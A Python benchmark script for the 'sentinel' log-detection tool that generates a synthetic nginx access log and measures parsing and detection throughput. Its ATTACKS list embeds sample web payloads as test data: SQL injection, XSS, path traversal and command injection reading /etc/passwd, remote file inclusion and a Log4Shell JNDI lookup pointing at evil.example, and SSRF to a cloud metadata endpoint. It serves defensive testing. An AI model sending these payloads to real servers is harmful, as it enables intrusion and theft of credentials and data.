"""End-to-end replay throughput: parse + every bundled detector pack.

Generates (once, cached in ``--log``) a 1,000,000-line nginx combined log
with 1 % attack lines and 100,000 distinct clients, then reads it through the
real ``combined`` parser and the detection engine with all packs, and prints
lines/s and peak RSS.

Targets: >= 150,000 lines/s, peak RSS <= 300 MB.

Lines go from bytes to events through ``parser.parse_block`` (one C call per
block of ``fh.readlines()`` lines on the C fast path); ``--per-line`` times the
Python loop over ``parser.parse`` instead (``LineParser.parse_block``, a
``RawLine`` per line), for comparison.

``--pipeline`` times the product path instead of that loop: what ``sentinel
replay LOG --format combined`` runs, without the printing.  The file source
reads the log to its end (``replaycmd.read_to_end``: its block form, runs of
plain lines), the :class:`~sentinel.pipeline.Replayer` parses them, fills its
:class:`~sentinel.summary.ReplaySummary` and hands the events to the
detection engine with every bundled pack, configured as ``sentinel replay``
configures it.  ``--pipeline --parse-only`` leaves the detection out
(``sentinel replay --no-detect``).

``--late SHARE`` replays a copy of the log (written once, next to it) where
that share of the lines comes 3-40 lines later than its place, under its own
time, as Apache writes a slow request's line when it ends under the time it
arrived (``%t``).  The loop above hands those batches to the engine as they
are (out of order: event by event); ``--pipeline`` puts them back in order
first (:mod:`sentinel.reorder`), as ``sentinel replay`` does.

Run: ``.venv/bin/python bench/replay.py [--lines 1000000] [--clients 100000]
[--parse-only-too | --parse-only] [--per-line] [--batch 256] [--pipeline]
[--late 0.02]``
"""

from __future__ import annotations

import argparse
import random
import resource
import sys
import time
from datetime import UTC, datetime
from functools import partial
from pathlib import Path

from sentinel.detection import DetectionEngine, EngineLimits, load_packs
from sentinel.parsers import build_parser
from sentinel.parsers.base import LineParser
from sentinel.pipeline import Replayer, ReplayInput, configured_definitions
from sentinel.replaycmd import read_to_end
from sentinel.runtime import streaming_gc
from sentinel.settings import Settings

START = datetime(2026, 11, 20, tzinfo=UTC).timestamp()
#: Lines read, parsed and handed to detection at a time.  Measured: 256 beats
#: 1024 (a smaller batch stays in cache and is collected young).
BATCH = 256
AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    f"Chrome/{v}.0.0.0 Safari/537.36"
    for v in range(110, 125)
] + [
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
]
PAGES = ["/", "/products", "/cart", "/checkout", "/account", "/blog", "/help", "/search"]
ATTACKS = [
    ("/products/view?id=1%27%20UNION%20SELECT%20user,pass%20FROM%20users--", 200),
    ("/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", 200),
    ("/download?file=..%252f..%252f..%252fetc%252fpasswd", 404),
    ("/.env", 404),
    ("/.git/config", 404),
    ("/index.php?page=http://evil.example/shell.txt?", 404),
    ("/ping?host=127.0.0.1%3Bcat%20/etc/passwd", 500),
    ("/?x=${jndi:ldap://evil.example/a}", 400),
    ("/api/v1/preview?url=http://169.254.169.254/latest/meta-data/", 400),
    ("/wp-config.php.bak", 404),
    ("/admin/phpmyadmin/index.php", 404),
]


def client_ip(i: int) -> str:
    return f"{11 + i // 65536 % 200}.{i // 256 % 256}.{i % 256}.{(i * 7) % 250 + 1}"


def benign_target(rng: random.Random) -> str:
    roll = rng.random()
    if roll < 0.35:
        return f"/static/{rng.choice(('app', 'vendor', 'style'))}.{rng.choice(('js', 'css'))}?v=3"
    if roll < 0.65:
        return f"/products/{rng.randint(1, 5000)}"
    if roll < 0.8:
        query = rng.choice(("boots", "winter+jacket", "desk", "gift"))
        return f"/search?q={query}&page={rng.randint(1, 5)}"
    return rng.choice(PAGES)


def generate(path: Path, lines: int, clients: int, seed: int = 1) -> None:
    """Write the synthetic log: benign sessions plus 1 % attack lines."""
    rng = random.Random(seed)
    step = 86400.0 / lines
    with path.open("w") as fh:
        for n in range(lines):
            ts = START + n * step
            stamp = datetime.fromtimestamp(ts, tz=UTC).strftime("%d/%b/%Y:%H:%M:%S +0000")
            # First pass over every client so all of them appear, then random.
            ip = client_ip(n if n < clients else rng.randrange(clients))
            if rng.random() < 0.01:
                target, status = rng.choice(ATTACKS)
                ip = client_ip(clients + rng.randrange(500))
                size, agent = 150, rng.choice(("curl/8.4.0", AGENTS[0], "sqlmap/1.7.2"))
            else:
                target, status = benign_target(rng), rng.choice((200,) * 18 + (304, 404))
                size, agent = rng.randint(500, 60000), rng.choice(AGENTS)
            fh.write(
                f'{ip} - - [{stamp}] "GET {target} HTTP/1.1" {status} {size} '
                f'"https://shop.example.com/" "{agent}"\n'
            )


def replay(
    path: Path, *, detect: bool = True, batch: int = BATCH, per_line: bool = False
) -> tuple[int, float, float]:
    """Parse (and detect) every line; returns (lines, wall seconds, CPU seconds).

    Lines are read in blocks of ``batch``; every block goes through the real
    parser's ``parse_block`` (``per_line``: the Python loop calling ``parse``
    line by line), and its events through ``DetectionEngine.observe_batch``
    (``batch`` 1: ``observe`` per event, the old way).  CPU time is reported
    too because a shared machine's wall time includes waiting for other
    processes.
    """
    parser = build_parser("combined", source="bench")
    engine = DetectionEngine(load_packs(check_examples=False) if detect else [])
    parse_block = partial(LineParser.parse_block, parser) if per_line else parser.parse_block
    name = str(path)
    offset = count = 0
    begin, cpu = time.perf_counter(), time.process_time()
    with path.open("rb") as fh, streaming_gc():
        while block := fh.readlines(batch * 230):  # about ``batch`` lines of ~230 bytes
            events, offset, count = parse_block(block, "bench", name, offset, count)
            if not detect:
                continue
            if batch == 1:
                for event in events:
                    engine.observe(event)
            else:
                engine.observe_batch(events)
    engine.flush(float("inf"))
    return count, time.perf_counter() - begin, time.process_time() - cpu


def write_late_copy(source: Path, target: Path, share: float, seed: int = 3) -> None:
    """Copy ``source`` with ``share`` of its lines moved 3-40 lines later (times unchanged)."""
    rng = random.Random(seed)
    held: list[tuple[int, bytes]] = []  # (index to write after, line), sorted
    with source.open("rb") as src, target.open("wb") as out:
        for index, line in enumerate(src):
            if rng.random() < share:
                held.append((index + rng.randint(3, 40), line))
                held.sort()
                continue
            out.write(line)
            while held and held[0][0] <= index:
                out.write(held.pop(0)[1])
        out.writelines(line for _, line in held)


def replay_pipeline(path: Path, *, detect: bool = True) -> tuple[int, float, float]:
    """Replay ``path`` as ``sentinel replay --format combined`` does; (lines, wall, CPU s).

    The real file source, replayer, summary and (``detect``) the detection
    engine with the configured (bundled) packs; nothing is printed.
    """
    settings = Settings()
    limits = EngineLimits(
        max_entities=settings.limits.max_entities, entity_ttl=settings.limits.entity_ttl
    )
    detectors = [DetectionEngine(configured_definitions(settings), limits)] if detect else []
    replayer = Replayer(read_to_end, detectors, max_line_bytes=settings.limits.max_line_bytes)
    begin, cpu = time.perf_counter(), time.process_time()
    result = replayer.run([ReplayInput(path, "combined")])
    return result.summary.lines, time.perf_counter() - begin, time.process_time() - cpu


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--lines", type=int, default=1_000_000)
    parser.add_argument("--clients", type=int, default=100_000)
    parser.add_argument("--log", type=Path, default=Path("/tmp/sentinel-bench-replay.log"))
    parser.add_argument("--parse-only-too", action="store_true", help="also time parsing alone")
    parser.add_argument("--parse-only", action="store_true", help="time parsing alone, only")
    parser.add_argument(
        "--per-line", action="store_true", help="parse line by line (parse), not parse_block"
    )
    parser.add_argument(
        "--batch", type=int, default=BATCH, help="lines per block (1: observe event by event)"
    )
    parser.add_argument(
        "--pipeline",
        action="store_true",
        help="time the product path (file source, Replayer, summary, detection)",
    )
    parser.add_argument(
        "--late",
        type=float,
        default=0.0,
        metavar="SHARE",
        help="replay a copy with this share of lines written 3-40 lines late (e.g. 0.02)",
    )
    args = parser.parse_args(argv)
    if not args.log.exists():
        generate(args.log, args.lines, args.clients)
    if args.late > 0:
        late = args.log.with_name(f"{args.log.stem}-late{args.late:g}{args.log.suffix}")
        if not late.exists():
            write_late_copy(args.log, late, args.late)
        args.log = late
    if args.pipeline:
        return _main_pipeline(args.log, detect=not args.parse_only)
    mode = "per line (parse)" if args.per_line else "parse_block"
    if not args.parse_only:
        lines, seconds, cpu = replay(args.log, batch=args.batch, per_line=args.per_line)
        _print_rate(lines, seconds, cpu, mode)
    if args.parse_only or args.parse_only_too:
        lines, _, parse_cpu = replay(
            args.log, detect=False, batch=args.batch, per_line=args.per_line
        )
        _, _, other_cpu = replay(
            args.log, detect=False, batch=args.batch, per_line=not args.per_line
        )
        other = "per line (parse)" if not args.per_line else "parse_block"
        print(
            f"parse only: cpu {lines / parse_cpu:,.0f} lines/s "
            f"({parse_cpu / lines * 1e6:.2f} us/line) [{mode}]; "
            f"{lines / other_cpu:,.0f} lines/s ({other_cpu / lines * 1e6:.2f} us/line) [{other}]"
        )
        if not args.parse_only:
            detect_cpu = max(cpu - parse_cpu, 1e-9)
            print(
                f"detection alone: {lines / detect_cpu:,.0f} events/s "
                f"({detect_cpu / lines * 1e6:.1f} us/event, {detect_cpu / cpu:.0%} of cpu)"
            )
    peak_mb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    print(f"peak RSS: {peak_mb:.0f} MB (targets: >= 150,000 lines/s, <= 300 MB)")
    return 0


def _print_rate(lines: int, seconds: float, cpu: float, mode: str) -> None:
    print(
        f"lines: {lines:,}  wall: {seconds:.2f} s ({lines / seconds:,.0f} lines/s)  "
        f"cpu: {cpu:.2f} s ({lines / cpu:,.0f} lines/s)  [{mode}]"
    )


def _main_pipeline(log: Path, *, detect: bool) -> int:
    lines, seconds, cpu = replay_pipeline(log, detect=detect)
    _print_rate(lines, seconds, cpu, "pipeline" if detect else "pipeline, no detection")
    peak_mb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    print(f"peak RSS: {peak_mb:.0f} MB")
    return 0


if __name__ == "__main__":
    sys.exit(main())
